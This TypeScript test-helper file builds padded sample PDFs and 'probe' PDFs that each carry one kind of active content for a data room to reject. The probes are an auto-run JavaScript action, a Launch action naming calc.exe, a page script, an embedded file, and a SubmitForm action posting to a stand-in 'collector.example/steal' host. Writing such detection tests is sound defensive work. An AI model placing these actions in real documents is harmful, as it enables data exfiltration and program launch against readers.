/**
 * PDFs for tests: real ones of a chosen size and page count (the data room reads every uploaded PDF, so noise after
 * `%PDF-` no longer passes), and probes that each carry one kind of active content, built with pdf-lib as a
 * producer would write them. No vitest here: the browser tests use it too.
 */
import { randomBytes } from 'node:crypto';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';

/**
 * A real PDF of `pages` blank pages, padded with a stream of noise to exactly `size` bytes (or as small as such a
 * PDF can be, a few hundred bytes, when `size` is less). Written by hand, not with pdf-lib: it is synchronous, and
 * a 10 MB one takes no time.
 */
export function pdfBytes(size: number, pages = 1): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(' ');
  const head = [
    '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n',
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    `2 0 obj\n<< /Type /Pages /Kids [${kids}] /Count ${pages} >>\nendobj\n`,
    ...Array.from(
      { length: pages },
      (_, i) => `${i + 4} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n`,
    ),
  ].join('');
  const tail = `\nendstream\nendobj\ntrailer\n<< /Size ${pages + 4} /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`;
  const streamHead = (length: number) => `3 0 obj\n<< /Length ${length} >>\nstream\n`;
  // The stream's own /Length changes the size by its digits: settle it in two rounds.
  let length = Math.max(0, size - head.length - streamHead(0).length - tail.length);
  length = Math.max(0, size - head.length - streamHead(length).length - tail.length);
  return Buffer.concat([
    Buffer.from(head + streamHead(length), 'latin1'),
    // Noise that never spells `endstream` (no lower-case letters).
    Buffer.from(randomBytes(length).map((b) => (b >= 0x61 && b <= 0x7a ? b - 0x20 : b))),
    Buffer.from(tail, 'latin1'),
  ]);
}

/** One kind of active content each: what the data room must refuse. */
export type ProbeKind = 'open-action-js' | 'launch' | 'additional-actions' | 'embedded-files' | 'submit-form';

/** A one-page PDF carrying one kind of active content, as pdf-lib writes it (object streams and all). */
export async function probePdf(kind: ProbeKind): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([612, 792]);
  const { context, catalog } = doc;
  // pdf-lib's literals: a string becomes a name, a PDFString stays a string.
  const action = (entries: Record<string, string | PDFString>) => context.obj(entries);
  switch (kind) {
    case 'open-action-js':
      catalog.set(PDFName.of('OpenAction'), action({ S: 'JavaScript', JS: PDFString.of('app.alert("probe")') }));
      break;
    case 'launch':
      catalog.set(PDFName.of('OpenAction'), action({ S: 'Launch', F: PDFString.of('calc.exe') }));
      break;
    case 'additional-actions':
      // A page's open action: a script, referenced rather than inline.
      page.node.set(
        PDFName.of('AA'),
        context.obj({ O: context.register(action({ S: 'JavaScript', JS: PDFString.of('this.print()') })) }),
      );
      break;
    case 'embedded-files':
      await doc.attach(Buffer.from('hidden payload'), 'payload.txt', { mimeType: 'text/plain' });
      break;
    case 'submit-form':
      catalog.set(
        PDFName.of('OpenAction'),
        action({ S: 'SubmitForm', F: PDFString.of('https://collector.example/steal') }),
      );
      break;
  }
  return Buffer.from(await doc.save());
}
